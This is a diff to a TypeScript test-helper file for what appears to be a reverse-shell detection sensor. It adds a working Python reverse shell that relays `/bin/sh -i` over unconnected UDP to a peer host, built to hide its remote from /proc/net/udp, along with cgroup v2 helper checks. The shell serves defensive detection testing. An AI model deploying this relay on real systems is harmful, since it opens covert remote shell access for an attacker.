@@ -92,6 +92,64 @@ pipe_relay(s)
 /** A command whose answer only a shell computes (no echo of the input can contain it), and that answer. */
 const MARKER_COMMAND: [string, string] = ["echo RELAY_$((6*7))", "RELAY_42"];
 /** How long a commanding listener keeps an answered shell alive before `exit`: the rules read /proc of live processes. */
+
+/**
+ * A UDP relay that never connects (issue 26): `/bin/sh -i` behind two pipes, its output sent
+ * with sendto to argv H:P from an unconnected socket bound to 127.0.0.1:argv[3], and what comes
+ * back from H:P (recvfrom) written to the shell. /proc/net/udp shows this socket's remote as
+ * 0.0.0.0:0: only its sends name the peer. No single quote inside.
+ */
+export const PYTHON_UDP_SENDTO_RELAY = `
+import os, socket, subprocess, sys, threading
+peer = (sys.argv[1], int(sys.argv[2]))
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("127.0.0.1", int(sys.argv[3])))
+c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+def up():
+    while True:
+        d = os.read(c.stdout.fileno(), 4096)
+        if not d: break
+        s.sendto(d, peer)
+threading.Thread(target=up, daemon=True).start()
+while c.poll() is None:
+    d, a = s.recvfrom(4096)
+    if a != peer: continue
+    c.stdin.write(d); c.stdin.flush()
+    if d.startswith(b"exit"): break
+c.wait()
+`;
+
+/**
+ * Where this host mounts the cgroup v2 hierarchy at its root, from /proc/self/mountinfo (as the
+ * loader finds it), or undefined: the udp_send capability (cgroup/sendmsg4|6) needs it.
+ */
+export function cgroup2Root(): string | undefined {
+  for (const line of readFileSync("/proc/self/mountinfo", "utf8").split("\n")) {
+    const f = line.split(" ");
+    const dash = f.indexOf("-");
+    if (dash > 4 && f[dash + 1] === "cgroup2" && f[3] === "/") return f[4];
+  }
+  return undefined;
+}
+
+/**
+ * The udp_send capability is live on its cgroup programs. A host without a cgroup v2 mount
+ * cannot have it: there the check fails under CI (the tests must run, never skip) and answers
+ * false elsewhere, after asserting the sensor said why.
+ */
+export function udpSendLive(sensor: Sensor): boolean {
+  if (cgroup2Root() === undefined) {
+    const why = sensor.programs.find((p) => p.capability === "udp_send" && p.program === "cgroup/sendmsg{4,6}")?.reason ?? "";
+    if (inCI) throw new Error(`udp_send: this CI host mounts no cgroup v2 hierarchy, so unconnected UDP relays cannot be tested (${why})`);
+    if (!/cgroup v2/.test(why)) throw new Error(`udp_send: no cgroup v2 mount here, and the sensor did not say so: ${why}`);
+    console.warn(`udp_send: no cgroup v2 mount on this host, unconnected UDP cases not run (${why})`);
+    return false;
+  }
+  const live = sensor.liveProgram("udp_send");
+  if (live !== "cgroup/sendmsg{4,6}") throw new Error(`udp_send: cgroup v2 is mounted at ${cgroup2Root()} but the live program is ${live}`);
+  return true;
+}
+
 const SHELL_LINGER_MS = 1500;
 
 export interface TcpListener {
